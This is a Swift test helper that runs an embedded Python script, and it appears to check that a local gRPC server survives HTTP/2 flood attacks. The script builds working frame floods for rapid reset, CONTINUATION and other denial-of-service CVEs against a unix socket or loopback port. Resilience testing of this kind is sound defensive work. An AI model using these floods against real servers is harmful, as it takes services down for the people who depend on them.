import Foundation

/// Frames of HTTP/2 without end (RFC 9113), from one connection after the other, whose answers nobody reads.
public struct FrameFlood: Sendable {
    public enum Kind: String, CaseIterable, Sendable {
        /// Calls that are taken back at once (CVE-2023-44487).
        case resets
        /// Calls that the server has to take back (CVE-2025-8671).
        case faults
        /// Headers that go on and on, by little or by much (CVE-2024-27316).
        case emptyContinuations, continuations
        /// What has to be answered.
        case pings, settings
        /// Of a message that never comes.
        case emptyData
        /// Calls that never end.
        case openCalls
    }

    /// Connections that were opened.
    public let opened: Int
    /// Those that the server has closed.
    public let closed: Int
    /// Those that it did not read from any more.
    public let stalled: Int
    /// Most bytes that one took.
    public let mostBytes: Int

    /// Goes on for so many seconds, and until the server has closed one, within reason. Waits.
    ///
    /// - Parameters:
    ///   - target: `unix:PATH`, or `tls:PORT` of loopback.
    ///   - method: `/service/method`, which is called.
    ///   - certificate: what it connects as by TLS.
    public init(
        _ kind: Kind, at target: String, calling method: String, as certificate: ClientCertificate? = nil,
        seconds: Int = 1
    ) throws {
        let output = try Command.run([
            "/usr/bin/python3", "-c", Self.program, kind.rawValue, target, method, "\(seconds)",
            certificate?.chain ?? "", certificate?.key ?? "",
        ])
        let numbers = output.split(whereSeparator: \.isWhitespace).compactMap { Int($0) }
        guard numbers.count == 4 else { throw Command.Failure(description: output) }
        (opened, closed, stalled, mostBytes) = (numbers[0], numbers[1], numbers[2], numbers[3])
    }

    private static let program = """
        import itertools, socket, ssl, struct, sys, time

        kind, target, method, seconds, chain, key = sys.argv[1:]
        DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
        END_HEADERS = 4

        def frame(kind, flags, stream, payload=b""):
            return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload

        def literal(name, value):
            return b"\\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()

        call = b"".join(literal(*field) for field in (
            (":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "localhost"),
            ("content-type", "application/grpc"), ("te", "trailers"), ("workload.spiffe.io", "true"),
            ("broker.spiffe.io", "true")))
        streams = lambda: range(1, 1 << 31, 2)
        forever = lambda one: itertools.repeat(one * 50)
        kinds = {
            "resets": lambda: (
                frame(HEADERS, END_HEADERS, n, call) + frame(RST_STREAM, 0, n, struct.pack(">I", 8)) for n in streams()),
            "faults": lambda: (
                frame(HEADERS, END_HEADERS, n, call) + frame(WINDOW_UPDATE, 0, n, bytes(4)) for n in streams()),
            "emptyContinuations": lambda: itertools.chain(
                [frame(HEADERS, 0, 1, call)], forever(frame(CONTINUATION, 0, 1))),
            "continuations": lambda: itertools.chain(
                [frame(HEADERS, 0, 1, call)], forever(frame(CONTINUATION, 0, 1, literal("x-more", "x" * 100) * 100))),
            "pings": lambda: forever(frame(PING, 0, 0, bytes(8))),
            "settings": lambda: forever(frame(SETTINGS, 0, 0)),
            "emptyData": lambda: itertools.chain(
                [frame(HEADERS, END_HEADERS, 1, call)], forever(frame(DATA, 0, 1))),
            "openCalls": lambda: (frame(HEADERS, END_HEADERS, n, call) for n in streams()),
        }

        def connect():
            scheme, place = target.split(":", 1)
            if scheme == "unix":
                connection = socket.socket(socket.AF_UNIX)
                connection.settimeout(30)
                connection.connect(place)
                return connection
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            if chain: context.load_cert_chain(chain, key)
            return context.wrap_socket(socket.create_connection(("127.0.0.1", int(place)), timeout=30))

        opened = closed = stalled = most = 0
        # On a machine that is busy it takes longer until the first is closed.
        begin = time.monotonic()
        is_over = lambda: time.monotonic() - begin > float(seconds) and (closed or time.monotonic() - begin > 30)
        while not is_over():
            sent = 0
            try:
                with connect() as connection:
                    opened += 1
                    connection.settimeout(10)
                    connection.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + frame(SETTINGS, 0, 0))
                    for frames in kinds[kind]():
                        connection.sendall(frames)
                        sent += len(frames)
                        if is_over(): break
            except TimeoutError: stalled += 1
            except OSError: closed += 1
            most = max(most, sent)
            # The CPU is the one that the server works with.
            time.sleep(0.02)
        print(opened, closed, stalled, most)
        """
}
